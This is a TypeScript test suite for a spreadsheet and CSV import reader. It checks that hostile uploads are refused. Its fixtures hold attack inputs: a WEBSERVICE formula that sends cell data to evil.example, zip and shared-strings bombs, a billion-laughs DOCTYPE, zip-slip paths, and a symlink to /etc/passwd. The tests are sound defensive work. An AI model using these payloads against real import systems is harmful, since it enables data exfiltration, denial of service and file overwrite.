import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { readTable, DEFAULT_TABLE_LIMITS } from '../../../src/lib/exchange/table';
import { FieldError } from '../../../src/lib/errors';
import { buildZip } from '../../factories/zip';
import { buildXlsx, sheetXml, simpleXlsx, skeleton, writeBigCsv, writeBigXlsx } from '../../factories/xlsx';

/**
 * Upload attacks on the roster and information-system imports (issue 10, ADR 0020): every hostile file is
 * refused with its own reason (a `v.import.*` key, shown in Chinese, naming the sheet, row and column where
 * there is one), reading stops early, and nothing is written anywhere.
 */
async function refusal(p: Promise<unknown>): Promise<{ key: string; params?: Record<string, unknown> }> {
  try {
    await p;
  } catch (e) {
    if (e instanceof FieldError) return { key: e.key, params: e.params };
    throw e;
  }
  return { key: 'accepted' };
}
const keyOf = async (p: Promise<unknown>) => (await refusal(p)).key;

const header = ['姓名', '手机号'];
const ok = (extra: Parameters<typeof buildXlsx>[0]['extra'] = [], more: Partial<Parameters<typeof buildXlsx>[0]> = {}) =>
  buildXlsx({ sheets: [{ name: '名单', xml: sheetXml([header, ['张三', '13800000000']]) }], extra, ...more });

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'tonghu-upload-attacks-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('formulas', () => {
  it('a formula cell is refused naming sheet, row and column, whether or not Excel saved a result', async () => {
    for (const cell of [
      { raw: '<f>SUM(1,2)</f><v>3</v>' },
      { raw: '<f>A1&amp;"x"</f>' },
      { raw: '<f t="shared" si="0"/><v>13800000000</v>' },
      { raw: '<f>HYPERLINK("http://evil.example","点击")</f><v>点击</v>', attrs: 't="str"' },
      { raw: '<f>WEBSERVICE("http://evil.example/?"&amp;A2)</f><v>x</v>', attrs: 't="str"' },
    ]) {
      const file = buildXlsx({ sheets: [{ name: '人员', xml: sheetXml([header, ['张三', '13800000000'], ['李四', cell]]) }] });
      expect(await refusal(readTable(file, 'a.xlsx'))).toEqual({ key: 'v.import.formula', params: { sheet: '人员', row: 3, column: 'B' } });
    }
  });

  it('text that merely starts with = is data (a typed string), not a formula', async () => {
    const t = await readTable(simpleXlsx([header, ['=1+1', '13800000000']]), 'a.xlsx');
    expect(t.rows[0]!.cells).toEqual(['=1+1', '13800000000']);
  });
});

describe('size: a million rows, bombs, wide rows, long cells', () => {
  it('an XLSX of 1,000,000 rows (7 MB) is refused at the row cap without reading on, memory bounded', async () => {
    const file = join(dir, 'million.xlsx');
    await writeBigXlsx(file, 1_000_000, (n) => [n]);
    const bytes = readFileSync(file);
    expect(bytes.length).toBeLessThan(DEFAULT_TABLE_LIMITS.maxBytes);
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 2);
    const r = await refusal(readTable(bytes, 'million.xlsx'));
    clearInterval(timer);
    expect(r).toEqual({ key: 'v.import.tooManyRows', params: { max: DEFAULT_TABLE_LIMITS.maxRows } });
    // ExcelJS loading the whole workbook grew by ~1.3 GB here (tests/bench/hostile-tables.ts)
    expect((peak - before) / 1048576).toBeLessThan(200);
  }, 60_000);

  it('a CSV of 1,000,000 rows is refused at the row cap', async () => {
    const file = join(dir, 'million.csv');
    await writeBigCsv(file, 1_000_000, (n) => String(n % 10));
    expect(await refusal(readTable(readFileSync(file), 'million.csv'))).toEqual({ key: 'v.import.tooManyRows', params: { max: DEFAULT_TABLE_LIMITS.maxRows } });
  }, 60_000);

  it('the row cap comes from the limits the server passes (TONGHU_IMPORT_MAX_ROWS)', async () => {
    const rows = [header, ...Array.from({ length: 12 }, (_, i) => [`人${i}`, String(13800000000 + i)])];
    const limits = { ...DEFAULT_TABLE_LIMITS, maxRows: 10 };
    expect(await keyOf(readTable(simpleXlsx(rows), 'a.xlsx', limits))).toBe('v.import.tooManyRows');
    expect(await keyOf(readTable(Buffer.from(rows.map((r) => r.join(',')).join('\n')), 'a.csv', limits))).toBe('v.import.tooManyRows');
    expect((await readTable(simpleXlsx(rows.slice(0, 11)), 'a.xlsx', limits)).rows).toHaveLength(10);
  });

  it('a zip bomb is refused by its declared size, and by the inflated size when the declared size lies', async () => {
    const file = join(dir, 'bomb.xlsx');
    await writeBigXlsx(file, 3, (n) => [n], 200);
    const bomb = readFileSync(file);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await keyOf(readTable(bomb, 'bomb.xlsx'))).toBe('v.import.tooBigUnpacked');
    // the same sheet (20 MB of blank space) declared as 2 KB: inflating stops at the lie
    const pad = sheetXml([header, ['张三', '13800000000']]).replace('</sheetData>', ' '.repeat(20 * 1024 * 1024) + '</sheetData>');
    const parts = buildZip([
      ...skeleton({ sheets: [{ name: '名单' }] }),
      { name: 'xl/worksheets/sheet1.xml', data: pad, declaredSize: 2048 },
    ]);
    expect(await keyOf(readTable(parts, 'liar.xlsx'))).toBe('v.import.badXlsx');
    // and a part the limit cannot hold: the sheet is streamed, but not without end
    expect(await keyOf(readTable(ok(), 'a.xlsx', { ...DEFAULT_TABLE_LIMITS, maxUnpackedBytes: 500 }))).toBe('v.import.tooBigUnpacked');
  });

  it('a shared-strings bomb (a 30 MB string table in a small file) is refused before it is held', async () => {
    const sst = `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>姓名</t></si><si><t>${'y'.repeat(30 * 1024 * 1024)}</t></si></sst>`;
    const file = buildXlsx({ sheets: [{ name: '名单', xml: sheetXml([[{ raw: '<v>0</v>', attrs: 't="s"' }], [{ raw: '<v>1</v>', attrs: 't="s"' }]]) }], sharedStrings: sst });
    expect(file.length).toBeLessThan(200 * 1024);
    expect(await refusal(readTable(file, 'a.xlsx'))).toEqual({ key: 'v.import.sharedStringsTooBig', params: { max: '20' } });
  });

  it('very wide rows and very long cells are refused naming the cell', async () => {
    const wide = simpleXlsx([header, ['张三', '13800000000', ...Array.from({ length: 16_000 }, () => 1)]]);
    expect(await refusal(readTable(wide, 'a.xlsx'))).toEqual({ key: 'v.import.tooManyColumns', params: { sheet: '名单', row: 2, column: 'AY', max: 50 } });
    const wideCsv = Buffer.from('姓名,手机号\n张三,13800000000' + ',1'.repeat(16_000) + '\n');
    expect(await keyOf(readTable(wideCsv, 'a.csv'))).toBe('v.import.tooManyColumns');
    // blank trailing fields are fine (Excel writes them), without end they are not
    expect((await readTable(Buffer.from('姓名,手机号,,,\n张三,13800000000,,,\n'), 'a.csv')).rows).toHaveLength(1);
    expect(await keyOf(readTable(Buffer.from('姓名\n张三' + ','.repeat(20_000) + '\n'), 'a.csv'))).toBe('v.import.tooManyColumns');
    const long = simpleXlsx([header, ['张'.repeat(5000), '13800000000']]);
    expect(await refusal(readTable(long, 'a.xlsx'))).toEqual({ key: 'v.import.cellTooLong', params: { sheet: '名单', row: 2, column: 'A', max: 1000 } });
    expect(await keyOf(readTable(Buffer.from(`姓名\n${'张'.repeat(5000)}\n`), 'a.csv'))).toBe('v.import.cellTooLong');
  });
});

describe('type: by content, never by the name or the MIME type', () => {
  it('refuses a .xlsx that is not a zip, a zip that is not a workbook, and files dressed as others', async () => {
    expect(await keyOf(readTable(Buffer.from('姓名,手机号\n张三,13800000000\n'), '名单.xlsx'))).toBe('v.import.notXlsx');
    expect(await keyOf(readTable(buildZip([{ name: 'h5p.json', data: '{}' }, { name: 'content/content.json', data: '{}' }]), '名单.xlsx'))).toBe('v.import.notXlsx');
    expect(await keyOf(readTable(buildZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w/>' }]), '名单.xlsx'))).toBe('v.import.notXlsx');
    expect(await keyOf(readTable(ok(), '名单.csv'))).toBe('v.import.wrongType');
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
    expect(await keyOf(readTable(png, '名单.csv'))).toBe('v.import.wrongType');
    expect(await keyOf(readTable(Buffer.from('%PDF-1.4\n%\u0000'), '名单.csv'))).toBe('v.import.wrongType');
    expect(await keyOf(readTable(Buffer.from('MZ\u0090\u0000'), '名单.exe'))).toBe('v.import.wrongType');
    // the real thing is read whatever MIME type the browser claimed (the server never sees it as a reason)
    expect((await readTable(ok(), '名单.xlsx')).rows).toHaveLength(1);
  });

  it('an old .xls and a password-protected .xlsx (both OLE2 containers) each get their own message', async () => {
    // an OLE2 compound file: the signature, a 512-byte header, then a directory sector whose 128-byte entries
    // start with the stream name in UTF-16LE (Excel 97–2003 keeps a "Workbook" stream; a workbook saved with an
    // opening password keeps "EncryptionInfo" and "EncryptedPackage")
    const ole2 = (...names: string[]) => {
      const b = Buffer.alloc(512 + 128 * names.length);
      Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(b, 0);
      names.forEach((n, i) => Buffer.from(n, 'utf16le').copy(b, 512 + 128 * i));
      return b;
    };
    expect(await keyOf(readTable(ole2('Root Entry', 'Workbook'), '名单.xls'))).toBe('v.import.xls');
    expect(await keyOf(readTable(ole2('Root Entry', 'Workbook'), '名单.xlsx'))).toBe('v.import.xls');
    expect(await keyOf(readTable(ole2('Root Entry', 'EncryptionInfo', 'EncryptedPackage'), '名单.xlsx'))).toBe('v.import.encrypted');
  });

  it('refuses macros (.xlsm, vbaProject.bin, a macro-enabled workbook) and external links', async () => {
    expect(await keyOf(readTable(ok(), '名单.xlsm'))).toBe('v.import.macros');
    expect(await keyOf(readTable(ok([{ name: 'xl/vbaProject.bin', data: Buffer.from('d0cf11e0', 'hex') }]), '名单.xlsx'))).toBe('v.import.macros');
    expect(await keyOf(readTable(ok([], { workbookType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }), '名单.xlsx'))).toBe('v.import.macros');
    expect(await keyOf(readTable(ok([{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' }]), '名单.xlsx'))).toBe('v.import.externalLinks');
  });

  it('refuses a hidden first sheet and data in hidden rows or columns; other hidden sheets are never read', async () => {
    const visible = { name: '名单', xml: sheetXml([header, ['张三', '13800000000']]) };
    expect(await refusal(readTable(buildXlsx({ sheets: [{ name: '隐藏', state: 'hidden', xml: sheetXml([header, ['李四', '13800000001']]) }, visible] }), 'a.xlsx'))).toEqual({
      key: 'v.import.hiddenSheet',
      params: { sheet: '隐藏' },
    });
    const t = await readTable(buildXlsx({ sheets: [visible, { name: '下拉选项', state: 'veryHidden', xml: sheetXml([['x'], ['y']]) }] }), 'a.xlsx');
    expect(t.rows.map((r) => r.cells)).toEqual([['张三', '13800000000']]);
    const hiddenRow = sheetXml([header, ['张三', '13800000000'], ['李四', '13800000001']], (r) => (r === 3 ? ' hidden="1"' : ''));
    expect(await refusal(readTable(buildXlsx({ sheets: [{ name: '名单', xml: hiddenRow }] }), 'a.xlsx'))).toEqual({ key: 'v.import.hiddenRow', params: { sheet: '名单', row: 3, column: 'A' } });
    const hiddenCol = sheetXml([header, ['张三', '13800000000', '备注']]).replace('<sheetData>', '<cols><col min="3" max="3" hidden="1"/></cols><sheetData>');
    expect(await refusal(readTable(buildXlsx({ sheets: [{ name: '名单', xml: hiddenCol }] }), 'a.xlsx'))).toEqual({ key: 'v.import.hiddenColumn', params: { sheet: '名单', row: 2, column: 'C' } });
  });

  it('refuses error values, DOCTYPEs (entity expansion) and broken XML', async () => {
    expect(await refusal(readTable(simpleXlsx([header, ['张三', { raw: '<v>#N/A</v>', attrs: 't="e"' }]]), 'a.xlsx'))).toEqual({ key: 'v.import.cellError', params: { sheet: '名单', row: 2, column: 'B', value: '#N/A' } });
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>`;
    expect(await keyOf(readTable(buildXlsx({ sheets: [{ name: '名单', xml: laughs }] }), 'a.xlsx'))).toBe('v.import.badXlsx');
    expect(await keyOf(readTable(buildXlsx({ sheets: [{ name: '名单', xml: '<worksheet><sheetData><row>' }] }), 'a.xlsx'))).toBe('v.import.badXlsx');
  });
});

describe('paths: zip-slip, absolute paths, links, duplicate parts', () => {
  it('refuses them all and writes nothing anywhere', async () => {
    const cwd = readdirSync('.').sort();
    const tmp = readdirSync(tmpdir()).filter((n) => n.startsWith('evil')).sort();
    for (const extra of [
      [{ name: '../../evil.xml', data: 'x' }],
      [{ name: '/tmp/evil.xml', data: 'x' }],
      [{ name: 'xl/evil-link.xml', data: '/etc/passwd', mode: 0o120777 }],
      [{ name: 'xl/worksheets/sheet1.xml', data: sheetXml([header, ['李四', '13800000001']]) }],
    ]) {
      expect(await keyOf(readTable(ok(extra), 'a.xlsx'))).toBe('v.import.badXlsx');
    }
    expect(readdirSync('.').sort()).toEqual(cwd);
    expect(readdirSync(tmpdir()).filter((n) => n.startsWith('evil')).sort()).toEqual(tmp);
  });
});

describe('what a real workbook holds is still read', () => {
  it('shared strings with rich text and phonetic runs, dates in custom and built-in formats, the 1904 system, numbers', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('名单');
    ws.addRow(['姓名', '日期', '日期2', '手机号', '数']);
    ws.addRow([{ richText: [{ text: '张' }, { text: '三', font: { bold: true } }] }, new Date(Date.UTC(2026, 0, 31)), new Date(Date.UTC(2025, 11, 1)), 13800000000, 0.5]);
    ws.getCell('C2').numFmt = 'yyyy"年"m"月"d"日"';
    const t = await readTable(Buffer.from(await wb.xlsx.writeBuffer()), 'a.xlsx');
    expect(t.rows[0]!.cells).toEqual(['张三', '2026-01-31', '2025-12-01', '13800000000', '0.5']);
    const sst = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>姓名</t></si><si><r><t>李</t></r><r><t>四</t></r><rPh sb="0" eb="1"><t>リ</t></rPh></si></sst>';
    const file = buildXlsx({ sheets: [{ name: '名单', xml: sheetXml([[{ raw: '<v>0</v>', attrs: 't="s"' }], [{ raw: '<v>1</v>', attrs: 't="s"' }]]) }], sharedStrings: sst });
    expect((await readTable(file, 'a.xlsx')).rows[0]!.cells).toEqual(['李四']);
  });
});

